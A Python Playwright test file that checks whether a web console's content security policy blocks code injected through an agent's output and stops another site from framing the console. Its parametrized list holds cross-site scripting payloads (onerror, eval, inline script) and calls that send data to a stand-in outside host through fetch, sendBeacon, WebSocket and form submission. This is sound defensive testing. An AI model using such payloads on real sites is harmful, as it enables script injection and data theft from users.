"""The page itself: it is loaded from the daemon only, and its policy stops what the output of an agent could try."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page

from tests.console.checked_pages import Windows
from tests.console.other_site import other_site

IN_A_TASK_OF_ITS_OWN = """() => new Promise((done) => setTimeout(async () => {
  try { %s } catch (error) { console.error("stopped by the policy: " + error) } finally { setTimeout(done, 100) }
}))"""


def test_the_page_loads(page: Page) -> None:
    assert page.title().endswith("Portico")


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.innerHTML = '<img src=x onerror=\"window.ran = true\">'",
        "document.body.setAttribute('onclick', 'window.ran = true'); document.body.click()",
        "eval('window.ran = true')",
        "setTimeout('window.ran = true')",
        "const script = document.createElement('script'); script.text = 'window.ran = true'; document.body.append(script)",
        "const image = new Image(); image.src = 'OTHER'; document.body.append(image)",
        "const frame = document.createElement('iframe'); frame.src = 'OTHER'; document.body.append(frame)",
        "await fetch('OTHER')",
        "new WebSocket('OTHER'.replace('http', 'ws'))",
        "navigator.sendBeacon('OTHER', 'data')",
        "const form = document.createElement('form'); form.action = 'OTHER'; document.body.append(form); form.submit()",
    ],
)
def test_the_policy_stops(windows: Windows, attack: str) -> None:
    page = windows.open()
    windows.expect("olicy|Trusted|request to another host|Refused|Framing")
    with other_site() as other:
        code = attack.replace("OTHER", other.url())
        # Not in the evaluation itself, in which the debugger of the browser allows `eval`.
        page.evaluate(IN_A_TASK_OF_ITS_OWN % code)
        assert page.evaluate("window.ran") is None
        assert not other.requests
    assert windows.found


def test_a_page_of_another_site_cannot_frame_the_console(windows: Windows) -> None:
    windows.expect("olicy|another host|frame|ERR_BLOCKED")
    with other_site() as other:
        other.page = f'<!doctype html><iframe src="{windows.url}/console/"></iframe>'
        page = windows.context().new_page()
        page.goto(other.url())
        frame = next(frame for frame in page.frames if frame is not page.main_frame)
        assert frame.title() == "" and not frame.url.startswith(windows.url)
